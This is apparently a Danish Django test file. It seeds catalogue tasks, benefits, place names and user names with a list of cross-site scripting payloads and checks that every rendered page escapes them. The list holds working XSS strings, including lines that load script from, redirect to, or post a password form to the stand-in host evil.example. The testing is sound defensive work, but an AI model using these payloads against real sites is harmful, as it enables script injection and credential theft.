"""Tekster fra et katalog, en kommune eller et navn kan ikke blive til kode på nogen side."""

import pytest
from django.utils.safestring import mark_safe

from gevinster.models import Gevinst
from opgaver.models import Katalogopgave, Opgave
from projekter.models import Bruger, Plads
from tests.adgang.celler import UDEN_HTMX, maal
from tests.adgang.matrix import MATRIX
from tests.sider.hent import Side
from tests.sider.loefter import er_velformet, intet_er_indlejret, intet_hentes_udefra
from tests.udgivet import uden_vaern

ANGREB = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><mglyph><style><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<a href='&#106;avascript:alert(1)'>klik</a>",
    "<a href='java\tscript:alert(1)'>klik</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
    "<a href=//evil.example onclick=alert(1)>klik</a>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log ind</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p hx-get=//evil.example hx-trigger=load>x</p>",
    "<p data-hx-post=/konto/log-ud/ data-hx-trigger=load>x</p>",
    "\"><script>alert(1)</script>",
    "'onmouseover='alert(1)",
    "</textarea></title></style><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "{{ request.user.password }}{% csrf_token %}",
    "</td></tr></table><h1>Overtaget</h1>",
)  # fmt: skip
MAADER = ({}, {"HX-Request": "true"})
FREMMEDE = {"iframe", "object", "embed", "base", "frame", "applet", "math", "foreignObject"}
TEKSTFELTER = ("maal", "beskrivelse", "metode", "resultat", "kvalitetskriterier", "involverede_parter")


def ufarlig(side: Side):
    """Løfterne om script og fremmede steder, og intet element, kun et angreb kan have sat ind."""
    yield from intet_er_indlejret(side)
    yield from intet_hentes_udefra(side)
    yield from er_velformet(side)
    for el in side.elementer():
        if el.tag in FREMMEDE or (el.tag == "meta" and el.get("http-equiv")):
            yield f"elementet {el.tag}"
        if "evil.example" in " ".join(el.attrib.values()) and el.tag not in {"a", "input"}:
            yield f"{el.tag} peger på et fremmed sted: {dict(el.attrib)}"
        if el.tag == "a" and (el.get("href") or "").strip().lower().startswith(("data:", "vbscript:")):
            yield f"henvisning til {el.get('href')}"
    yield from (f"overskriften {el.text}" for el in side.elementer("h1") if el.text == "Overtaget")


@pytest.fixture
def scene(scene):
    """Angrebene står i hvert sit kort og i alle de tekster, mennesker kan skrive."""
    v = scene.verden
    for nummer, tekst in enumerate(ANGREB):
        kort = Katalogopgave(
            version=v.version, raekkefoelge=100 + nummer, kode=f"{tekst[:16]}{nummer}", titel=tekst[:200],
            fase=v.model.faser.get(kode="F1"), slutdato_tekst=tekst[:200], anbefalet_udfoerer=tekst[:200],
            oevrige_felter={tekst: tekst}, tjekpunkt_for=v.model.faser.get(kode="F1"),
            **dict.fromkeys(TEKSTFELTER, f"<p>{tekst}</p>"),
        )  # fmt: skip
        with uden_vaern():
            Katalogopgave.objects.bulk_create([kort])
        Opgave.af_kort(v.projekt.plan, kort, status="ikke_relevant", begrundelse=tekst).save()
        Gevinst.objects.create(
            projekt=v.projekt,
            titel=f"{tekst[:140]}{nummer}",
            type="service",
            beskrivelse=tekst,
            enhed=tekst[:60],
            maal=1,
        )
    Plads.objects.filter(pk=scene.steder["aarhus"]["plads"]).update(betegnelse=ANGREB[0])
    Bruger.objects.filter(pk=v.bo.pk).update(navn=ANGREB[3])
    return scene


def sider(scene, rolle, adresser):
    klient = scene.klient(rolle)
    for adresse in adresser:
        for hoveder in MAADER[:1] if rolle in UDEN_HTMX else MAADER:
            svar = klient.get(adresse, headers=hoveder)
            if svar.status_code == 200 and svar["Content-Type"].startswith("text/html"):
                yield Side(f"GET {adresse}", rolle, svar)


@pytest.mark.parametrize("rolle", ["anna", "ada", "karen"])
def test_angreb_er_blot_tekst_paa_alle_sider(scene, rolle):
    adresser = [et.adresse for linje in MATRIX for et in maal(scene, linje, rolle) if linje.hent and et.ser(rolle)]
    hentede = list(sider(scene, rolle, adresser))
    assert len(hentede) > 20
    assert [(brud, side.hvad) for side in hentede for brud in ufarlig(side)] == []


def test_angreb_er_blot_tekst_paa_opgavekortet(scene):
    opgaver = Opgave.objects.centrale().filter(plan__projekt=scene.verden.projekt, kort__raekkefoelge__gte=100)
    hentede = list(sider(scene, "anna", [opgave.get_absolute_url() for opgave in opgaver]))
    assert len(hentede) == 2 * len(ANGREB)
    assert [(brud, side.hvad) for side in hentede for brud in ufarlig(side)] == []


def test_et_utaet_filter_opdages(scene, monkeypatch):
    monkeypatch.setattr("faelles.templatetags.faelles.til_html", mark_safe)
    opgave = Opgave.objects.get(kort__raekkefoelge=100)
    assert any(list(ufarlig(side)) for side in sider(scene, "anna", [opgave.get_absolute_url()]))


def test_angreb_bliver_vist_saa_de_kan_ses(scene):
    opgave = Opgave.objects.get(kort__raekkefoelge=100)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in scene.klient("anna").get(opgave.get_absolute_url()).text
